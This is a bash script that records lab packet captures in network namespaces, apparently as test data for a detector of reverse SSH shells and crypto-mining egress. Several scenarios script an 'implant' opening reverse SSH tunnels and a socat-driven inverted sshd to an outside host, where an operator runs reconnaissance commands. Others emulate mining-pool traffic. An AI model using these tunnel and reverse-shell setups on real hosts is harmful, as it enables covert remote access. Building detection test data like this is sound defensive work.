#!/bin/bash
# mkpcaps.sh - re-make the lab captures in pcaps/ (needs root: network namespaces).
#
#   tools/mkpcaps.sh              all lab captures, then the crafted ones (tools/mkpcap.py)
#   tools/mkpcaps.sh NAME ...     only these (ssh-forward-login ssh-nonstd-port ssh-reverse-tunnel
#                                 ssh-rshell-* ssh-rtunnel-late ssh-role-inversion ssh-bastion-login
#                                 ssh-scp-bulk ssh-rsync ssh-sftp ssh-git-like ssh-local-forward
#                                 ssh-inbound-admin ssh-agent-fwd ssh-autossh-keepalive
#                                 ssh-rfwd-setup-only ssh-rfwd-shell ssh-nL-keepalive tls-sni
#                                 dns-then-tls stratum-btc stratum-xmrig stratum-ethproxy
#                                 stratum-nicehash jsonrpc-eth-node crafted; see $ALL below)
#
# Builds the lab with tools/lab.sh (train 10.20.0.10 -- router -- WAN delay -- outside), runs
# each scenario with tcpdump on the router's outside veth (r-out, the mirrored edge port), and
# tears everything down in a trap, killing only the PIDs started here. Nothing is routed outside
# the namespaces. Environment: OUT (default pcaps/), LAB_DELAY_MS (default 20), LAB_PREFIX
# (namespace name prefix, default none; e.g. LAB_PREFIX=ssh- LAB_RUN=/tmp/egress-lab-ssh to run
# next to another lab), KEEP_WORK=1 (keep the work folder: typer.log, sshd logs).
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(dirname "$HERE")
OUT=${OUT:-$TOP/pcaps}
PY=/usr/bin/python3
SVC="$PY $HERE/labsvc.py"
EMU="$PY $HERE/stratum-emu.py"
export LAB_RUN=${LAB_RUN:-/tmp/egress-lab}
export LAB_PREFIX=${LAB_PREFIX:-}
# shellcheck source=tools/lab-common.sh
. "$(dirname "$0")/lab-common.sh"

lab_init mkpcaps mkpcaps
mkdir -p "$OUT" "$OUT/regress"

# ---------------------------------------------------------------- ssh plumbing (tools/lab-common.sh)
# the `user` login also has an empty data/ (the target of scp and rsync)
ssh_setup_extra() {
	mkdir -p "$W/home/user/data"
}

# ---------------------------------------------------------------- scenarios

outside_sshd() {
	ssh_setup
	if [ -z "${SSHD_PID_outside:-}" ]; then
		sshd_start outside bastion \
		    "203.0.113.22:22; 198.51.100.7:22; 198.51.100.7:2222; 198.51.100.7:443"
		wait_listen "$NS_O" 203.0.113.22:22
		wait_listen "$NS_O" 198.51.100.7:22
		wait_listen "$NS_O" 198.51.100.7:2222
		wait_listen "$NS_O" 198.51.100.7:443
	fi
}

# the inside GPU node's own sshd (the target of reverse tunnels and of inbound admin logins)
train_sshd() {
	ssh_setup
	if [ -z "${SSHD_PID_train:-}" ]; then
		sshd_start train gpu-node-07 "127.0.0.1:22; 10.20.0.10:22"
		wait_listen "$NS_T" 127.0.0.1:22
		wait_listen "$NS_T" 10.20.0.10:22
	fi
}

do_ssh_forward_login() {
	outside_sshd
	cap_start ssh-forward-login
	ip netns exec "$NS_T" $SVC typer --seed 11 --line "ls" --line "whoami" --line "exit" -- \
	    ssh "${SSH_OPTS[@]}" -tt -p 22 user@203.0.113.22 2>>"$W/typer.log"
	cap_stop
}

do_ssh_nonstd_port() {
	outside_sshd
	cap_start ssh-nonstd-port
	ip netns exec "$NS_T" $SVC typer --seed 22 --line "uptime" --line "exit" -- \
	    ssh "${SSH_OPTS[@]}" -tt -p 2222 user@198.51.100.7 2>>"$W/typer.log"
	cap_stop
}

do_ssh_reverse_tunnel() {
	outside_sshd
	train_sshd
	cap_start ssh-reverse-tunnel
	# the implant: an outbound session to 198.51.100.7:443 that opens a remote forward
	bg "$NS_T" ssh "${SSH_OPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
	    -R 2200:localhost:22 -p 443 user@198.51.100.7
	# the operator, on the outside host, logs in back through the tunnel
	tunnel_login "$LASTPID" 2200 1.5 33 --line "id" --line "hostname" --line "ls /" --line "exit"
}

tls_cert() {
	[ -f "$W/tls.key" ] && return
	openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=$1" \
	    -keyout "$W/tls.key" -out "$W/tls.crt" 2>/dev/null
}

do_tls_sni() {
	tls_cert www.example.org
	bg "$NS_O" openssl s_server -quiet -www -accept 198.51.100.20:443 \
	    -cert "$W/tls.crt" -key "$W/tls.key"
	local srv=$LASTPID
	wait_listen "$NS_O" 198.51.100.20:443
	cap_start tls-sni
	{ printf 'GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n'; sleep 1.5; } |
	    timeout 10 ip netns exec "$NS_T" openssl s_client -quiet -servername www.example.org \
	    -connect 198.51.100.20:443 >/dev/null 2>"$W/s_client.log" || true
	cap_stop
	stop "$srv"
}

do_dns_then_tls() {
	tls_cert www.example.org
	bg "$NS_O" $SVC dns-server --listen 198.51.100.53:53 \
	    --map pool.supportxmr.com=198.51.100.30 --map www.example.org=198.51.100.20
	local dns=$LASTPID
	wait_listen "$NS_O" 198.51.100.53:53 udp
	bg "$NS_O" openssl s_server -quiet -www -accept 198.51.100.30:443 \
	    -cert "$W/tls.crt" -key "$W/tls.key"
	local srv=$LASTPID
	wait_listen "$NS_O" 198.51.100.30:443
	cap_start dns-then-tls
	ip netns exec "$NS_T" $SVC dns-query --server 198.51.100.53 pool.supportxmr.com
	sleep 0.3
	{ printf 'GET / HTTP/1.1\r\nHost: pool.supportxmr.com\r\n\r\n'; sleep 1.5; } |
	    timeout 10 ip netns exec "$NS_T" openssl s_client -quiet -noservername \
	    -connect 198.51.100.30:443 >/dev/null 2>"$W/s_client.log" || true
	cap_stop
	stop "$srv"; stop "$dns"
}

# do_stratum DIALECT ADDR:PORT
do_stratum() {
	bg "$NS_O" $EMU --role pool --dialect "$1" --listen "$2" --delay-ms 400 --once
	local pool=$LASTPID
	wait_listen "$NS_O" "$2"
	cap_start "stratum-$1"
	ip netns exec "$NS_T" $EMU --role miner --dialect "$1" --connect "$2" --submits 3 --delay-ms 900
	cap_stop
	stop "$pool"
}

do_jsonrpc_eth_node() {
	bg "$NS_O" $SVC rpc-server --listen 198.51.100.40:8545
	local rpc=$LASTPID
	bg "$NS_O" $SVC log-sink --listen 198.51.100.40:5170
	local sink=$LASTPID
	wait_listen "$NS_O" 198.51.100.40:8545
	wait_listen "$NS_O" 198.51.100.40:5170
	cap_start jsonrpc-eth-node
	ip netns exec "$NS_T" $SVC rpc-client --connect 198.51.100.40:8545 --gap-ms 300 >/dev/null
	ip netns exec "$NS_T" $SVC log-ship --connect 198.51.100.40:5170 --lines 12 --gap-ms 150
	cap_stop
	stop "$rpc"; stop "$sink"
}

# ---------------------------------------------------------------- ssh: issue #3 (reverse SSH)
# Commands the operator types in a reverse shell (into the inside GPU node).
RSHELL_LINES=(--line "id" --line "hostname" --line "uname -a" --line "ls -la ~"
	--line "cat /etc/os-release" --line "exit")

# do_rshell NAME OUTER_PORT TUNNEL_PORT SEED [outer ssh options...]
# The implant in train: ssh -N -R TUNNEL_PORT:localhost:22 -p OUTER_PORT user@198.51.100.7; the
# operator in outside logs in back through the tunnel (ssh -p TUNNEL_PORT user@127.0.0.1) and
# types RSHELL_LINES.
do_rshell() {
	local name=$1 port=$2 tport=$3 seed=$4
	shift 4
	outside_sshd
	train_sshd
	cap_start "$name"
	bg "$NS_T" ssh "$@" "${SSH_OPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
	    -R "$tport:localhost:22" -p "$port" user@198.51.100.7
	tunnel_login "$LASTPID" "$tport" 1.5 "$seed" "${RSHELL_LINES[@]}"
}

# The tunnel is set up, sits idle with keepalives (ServerAliveInterval=5) for RTUNNEL_IDLE
# seconds, then the operator uses it.
do_ssh_rtunnel_late() {
	outside_sshd
	train_sshd
	cap_start ssh-rtunnel-late
	bg "$NS_T" ssh -o ServerAliveInterval=5 -o ServerAliveCountMax=3 "${SSH_OPTS[@]}" -N \
	    -o BatchMode=yes -o ExitOnForwardFailure=yes -R 2201:localhost:22 -p 22 user@198.51.100.7
	tunnel_login "$LASTPID" 2201 "${RTUNNEL_IDLE:-45}" 55 --line "id" --line "hostname" \
	    --line "uname -a" --line "exit"
}

# The inside host opens the TCP connection (to 198.51.100.8:443) but runs the SSH *server*
# (sshd -i behind socat); the outside operator's ssh client waits for it with a ProxyCommand
# listener and types commands.
do_ssh_role_inversion() {
	train_sshd
	local d=$W/sshd-train
	cap_start ssh-role-inversion
	bg "$NS_O" $SVC typer --seed 66 "${RSHELL_LINES[@]}" -- \
	    ssh "${SSH_OPTS[@]}" -tt -o HostKeyAlias=gpu-node-07 \
	    -o "ProxyCommand=socat - TCP-LISTEN:443,bind=198.51.100.8,reuseaddr" user@gpu-node-07 \
	    2>>"$W/typer.log"
	local op=$LASTPID
	wait_listen "$NS_O" 198.51.100.8:443
	sleep 1
	bg "$NS_T" unshare --mount --uts /bin/sh -c "$(in_sshd_world "$d" gpu-node-07 \
	    "socat TCP:198.51.100.8:443 EXEC:'/usr/sbin/sshd -i -e -f $d/sshd_config'")" \
	    2>"$W/sshd-i.log"
	local imp=$LASTPID
	wait "$op"
	sleep 2
	stop "$imp"
	cap_stop
}

# Negatives: ordinary SSH use that must not look like a reverse shell.
do_ssh_bastion_login() {
	outside_sshd
	cap_start ssh-bastion-login
	ip netns exec "$NS_T" $SVC typer --seed 77 --pause 1.5 4 --line "uptime" --line "df -h /" \
	    --line "ls -la" --line "ls -R /usr/share | head -500" --line "cat notes.txt" \
	    --line "uname -r" --line "date" --line "exit" -- \
	    ssh "${SSH_OPTS[@]}" -tt -p 22 user@203.0.113.22 2>>"$W/typer.log"
	cap_stop
}

do_ssh_scp_bulk() {
	outside_sshd
	head -c "${SCP_BYTES:-2500000}" /dev/urandom >"$W/checkpoint.bin"
	chmod 644 "$W/checkpoint.bin"
	cap_start ssh-scp-bulk
	ip netns exec "$NS_T" scp "${SSH_OPTS[@]}" -P 22 "$W/checkpoint.bin" \
	    user@198.51.100.7:data/checkpoint.bin
	cap_stop
}

do_ssh_rsync() {
	outside_sshd
	local t=$W/tree i
	mkdir -p "$t/src" "$t/configs" "$t/logs"
	for i in 1 2 3 4 5 6; do head -c $((i * 8000)) /dev/urandom | base64 >"$t/src/mod$i.py"; done
	for i in a b c; do seq 1 1500 | sed "s/^/  lr_step_$i: /" >"$t/configs/$i.yaml"; done
	head -c 30000 /dev/urandom | base64 >"$t/logs/train.log"
	chmod -R a+rX "$t"
	cap_start ssh-rsync
	ip netns exec "$NS_T" rsync -a -e "ssh ${SSH_OPTS[*]} -p 22" "$t/" user@198.51.100.7:data/tree/
	cap_stop
}

do_ssh_sftp() {
	outside_sshd
	mkdir -p "$W/dl"
	cap_start ssh-sftp
	(cd "$W/dl" && ip netns exec "$NS_T" $SVC typer --seed 88 --prompt 'sftp> $' --line "pwd" \
	    --line "ls -l" --line "cd data" --line "ls" --line "cd .." --line "get notes.txt" \
	    --line "bye" -- sftp "${SSH_OPTS[@]}" -P 22 user@198.51.100.7 2>>"$W/typer.log")
	cap_stop
}

do_ssh_git_like() {
	outside_sshd
	cap_start ssh-git-like
	ip netns exec "$NS_T" ssh "${SSH_OPTS[@]}" -T -p 22 user@198.51.100.7 \
	    'cat /etc/os-release; sleep 1; head -c 200000 /dev/urandom | base64' >/dev/null
	cap_stop
}

do_ssh_local_forward() {
	outside_sshd
	mkdir -p "$W/www"
	echo '{"model":"llama-7b","status":"ok"}' >"$W/www/status.json"
	head -c 30000 /dev/urandom | base64 >"$W/www/metrics.txt"
	(cd "$W/www" && exec ip netns exec "$NS_O" python3 -m http.server --bind 127.0.0.1 8000 \
	    >/dev/null 2>&1) &
	PIDS+=($!)
	local web=$!
	wait_listen "$NS_O" 127.0.0.1:8000
	cap_start ssh-local-forward
	bg "$NS_T" ssh "${SSH_OPTS[@]}" -N -o ExitOnForwardFailure=yes -L 8080:127.0.0.1:8000 \
	    -p 22 user@198.51.100.7
	local fwd=$LASTPID
	wait_listen "$NS_T" 127.0.0.1:8080
	for u in / status.json metrics.txt status.json; do
		sleep 1.5
		ip netns exec "$NS_T" curl -s -o /dev/null "http://127.0.0.1:8080/${u#/}"
	done
	sleep 1
	stop "$fwd"
	cap_stop
	stop "$web"
}

do_ssh_inbound_admin() {
	train_sshd
	cap_start ssh-inbound-admin
	ip netns exec "$NS_O" $SVC typer --seed 99 --line "uptime" --line "free -m" \
	    --line "df -h /" --line "ls -la" --line "exit" -- \
	    ssh "${SSH_OPTS[@]}" -b 198.51.100.50 -tt -p 22 user@10.20.0.10 2>>"$W/typer.log"
	cap_stop
}

do_ssh_agent_fwd() {
	outside_sshd
	local sock=$W/agent.sock
	ip netns exec "$NS_T" ssh-agent -a "$sock" >"$W/agent.env"
	local agent
	agent=$(sed -n 's/^SSH_AGENT_PID=\([0-9]*\);.*/\1/p' "$W/agent.env")
	PIDS+=("$agent")
	SSH_AUTH_SOCK=$sock ssh-add -q "$W/keys/id_user"
	cap_start ssh-agent-fwd
	SSH_AUTH_SOCK=$sock ip netns exec "$NS_T" $SVC typer --seed 111 --line "ssh-add -l" \
	    --line "hostname" --line "ls -la" --line "ssh-add -l" \
	    --line "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR 203.0.113.22 uptime" \
	    --line "exit" -- \
	    ssh -A "${SSH_OPTS[@]}" -tt -p 22 user@198.51.100.7 2>>"$W/typer.log"
	cap_stop
	kill "$agent" 2>/dev/null || true
}

do_ssh_autossh_keepalive() {
	outside_sshd
	cap_start ssh-autossh-keepalive
	bg "$NS_T" ssh -o ServerAliveInterval=2 -o ServerAliveCountMax=3 "${SSH_OPTS[@]}" -N \
	    -o BatchMode=yes -p 22 user@198.51.100.7
	local k=$LASTPID
	sleep "${KEEPALIVE_HOLD:-50}"
	stop "$k"
	cap_stop
}

# ---------------------------------------------------------------- ssh: -R set-up (issue #3)
# An -R forward that is set up but never used: ssh -N -R, held RFWD_HOLD seconds.
do_ssh_rfwd_setup_only() {
	outside_sshd
	train_sshd
	cap_start ssh-rfwd-setup-only
	bg "$NS_T" ssh -o LogLevel=DEBUG3 -E "$W/rfwd-setup-only.log" "${SSH_OPTS[@]}" -N \
	    -o BatchMode=yes -o ExitOnForwardFailure=yes -R 2202:localhost:22 -p 22 \
	    user@198.51.100.7
	local tun=$LASTPID
	wait_listen "$NS_O" 127.0.0.1:2202
	sleep "${RFWD_HOLD:-15}"
	stop "$tun"
	cap_stop
}

# An -R forward asked for by an interactive login: the inside user types commands (the
# forward is set up, never used); ssh_remote_forward, but no reverse_ssh.
do_ssh_rfwd_shell() {
	outside_sshd
	train_sshd
	cap_start ssh-rfwd-shell
	ip netns exec "$NS_T" $SVC typer --seed 121 --line "hostname" --line "ss -ltn" \
	    --line "uptime" --line "exit" -- \
	    ssh -o LogLevel=DEBUG3 -E "$W/rfwd-shell.log" "${SSH_OPTS[@]}" -tt \
	    -R 2203:localhost:22 -p 22 user@198.51.100.7 2>>"$W/typer.log"
	cap_stop
}

# ssh -N -L with ServerAliveInterval=2 (autossh style), the forward used once after 6 s:
# keepalive global requests, a late direct-tcpip channel; no ssh_remote_forward.
do_ssh_nl_keepalive() {
	outside_sshd
	mkdir -p "$W/www"
	echo '{"model":"llama-7b","status":"ok"}' >"$W/www/status.json"
	(cd "$W/www" && exec ip netns exec "$NS_O" python3 -m http.server --bind 127.0.0.1 8001 \
	    >/dev/null 2>&1) &
	PIDS+=($!)
	local web=$!
	wait_listen "$NS_O" 127.0.0.1:8001
	cap_start ssh-nL-keepalive
	bg "$NS_T" ssh -o ServerAliveInterval=2 -o ServerAliveCountMax=3 -o LogLevel=DEBUG3 \
	    -E "$W/nL-keepalive.log" "${SSH_OPTS[@]}" -N -o BatchMode=yes \
	    -o ExitOnForwardFailure=yes -L 8081:127.0.0.1:8001 -p 22 user@198.51.100.7
	local fwd=$LASTPID
	wait_listen "$NS_T" 127.0.0.1:8081
	sleep 6
	ip netns exec "$NS_T" curl -s -o /dev/null http://127.0.0.1:8081/status.json
	sleep "${NL_HOLD:-8}"
	stop "$fwd"
	cap_stop
	stop "$web"
}

# ---------------------------------------------------------------- main
ALL="ssh-forward-login ssh-nonstd-port ssh-reverse-tunnel ssh-rshell-22-chacha
ssh-rshell-443-aesgcm ssh-rshell-22-aesctr-hmac ssh-rshell-443-etm ssh-rtunnel-late
ssh-role-inversion ssh-bastion-login ssh-scp-bulk ssh-rsync ssh-sftp ssh-git-like
ssh-local-forward ssh-inbound-admin ssh-agent-fwd ssh-autossh-keepalive ssh-rfwd-setup-only
ssh-rfwd-shell ssh-nL-keepalive tls-sni dns-then-tls
stratum-btc stratum-xmrig stratum-ethproxy stratum-nicehash jsonrpc-eth-node crafted"
WANT=${*:-$ALL}

for n in $WANT; do
	case $n in
	ssh-forward-login) need_lab; do_ssh_forward_login ;;
	ssh-nonstd-port) need_lab; do_ssh_nonstd_port ;;
	ssh-reverse-tunnel) need_lab; do_ssh_reverse_tunnel ;;
	ssh-rshell-22-chacha) need_lab
		do_rshell "$n" 22 2200 101 -c chacha20-poly1305@openssh.com ;;
	ssh-rshell-443-aesgcm) need_lab
		do_rshell "$n" 443 4422 102 -c aes256-gcm@openssh.com ;;
	ssh-rshell-22-aesctr-hmac) need_lab
		do_rshell "$n" 22 8022 103 -c aes128-ctr -m hmac-sha2-256 ;;
	ssh-rshell-443-etm) need_lab
		do_rshell "$n" 443 10022 104 -c aes128-ctr -m hmac-sha2-256-etm@openssh.com ;;
	ssh-rtunnel-late) need_lab; do_ssh_rtunnel_late ;;
	ssh-role-inversion) need_lab; do_ssh_role_inversion ;;
	ssh-bastion-login) need_lab; do_ssh_bastion_login ;;
	ssh-scp-bulk) need_lab; do_ssh_scp_bulk ;;
	ssh-rsync) need_lab; do_ssh_rsync ;;
	ssh-sftp) need_lab; do_ssh_sftp ;;
	ssh-git-like) need_lab; do_ssh_git_like ;;
	ssh-local-forward) need_lab; do_ssh_local_forward ;;
	ssh-inbound-admin) need_lab; do_ssh_inbound_admin ;;
	ssh-agent-fwd) need_lab; do_ssh_agent_fwd ;;
	ssh-autossh-keepalive) need_lab; do_ssh_autossh_keepalive ;;
	ssh-rfwd-setup-only) need_lab; do_ssh_rfwd_setup_only ;;
	ssh-rfwd-shell) need_lab; do_ssh_rfwd_shell ;;
	ssh-nL-keepalive) need_lab; do_ssh_nl_keepalive ;;
	tls-sni) need_lab; do_tls_sni
		tshark -r "$OUT/tls-sni.pcap" -F pcapng -w "$OUT/tls-sni.pcapng" ;;
	dns-then-tls) need_lab; do_dns_then_tls ;;
	stratum-btc) need_lab; do_stratum btc 198.51.100.31:3333 ;;
	stratum-xmrig) need_lab; do_stratum xmrig 198.51.100.30:14444 ;;
	stratum-ethproxy) need_lab; do_stratum ethproxy 198.51.100.32:443 ;;
	stratum-nicehash) need_lab; do_stratum nicehash 198.51.100.33:34567 ;;
	jsonrpc-eth-node) need_lab; do_jsonrpc_eth_node ;;
	crafted) (cd "$TOP" && $PY "$HERE/mkpcap.py" --out "$OUT") ;;
	*) log "unknown capture: $n"; exit 2 ;;
	esac
done
log "done"
